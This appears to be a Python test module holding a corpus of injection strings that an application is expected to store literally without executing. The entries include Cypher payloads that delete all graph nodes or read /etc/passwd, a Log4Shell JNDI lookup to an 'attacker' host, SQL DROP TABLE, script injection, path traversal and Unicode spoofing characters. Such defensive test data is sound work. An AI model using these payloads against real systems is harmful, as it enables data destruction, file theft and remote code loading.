"""Strings that break naive Cypher, Lucene, JSON, HTML or terminals: an injection corpus.

Each must be stored and returned literally wherever text is accepted, and never change
what a statement does.
"""

from __future__ import annotations

__all__ = ["CORPUS", "LONG"]

LONG = "Ab" * 6000  # 12,000 characters: above every field's limit

CORPUS: tuple[str, ...] = (
    "' OR 1=1 //",
    '" OR ""="',
    '"}) MATCH (n) DETACH DELETE n //',
    "'}) MATCH (n) DETACH DELETE n RETURN 1 //",
    "\u0027) WITH 1 AS x MATCH (n) SET n.pwned = true //",
    "x` DETACH DELETE n //",
    "`Person`",
    "`:Entity`:`ApiKey`",
    "$id",
    "$org_scope",
    "{id: 'x'}",
    "CALL dbms.components() YIELD name RETURN name",
    "CALL db.labels()",
    "CALL dbms.killQueries(['1'])",
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "*:*",
    "name:* OR id:*",
    'a AND NOT b OR c~ ^2 "quoted',
    '+-&&||!(){}[]^"~*?:\\/',
    "\\",
    "\\u0000",
    "nul\x00byte",
    "rtl \u202eevil\u202c mark \u200f",
    "emoji 🧶🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f 👩🏽‍⚕️",
    "Cymraeg: ŵ ŷ â ê î ô û — “quotes”",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker/x}",
    "'; DROP TABLE services; --",
    "line\r\nbreak",
    "../../../../etc/passwd",
    "%27%20OR%201%3D1",
)
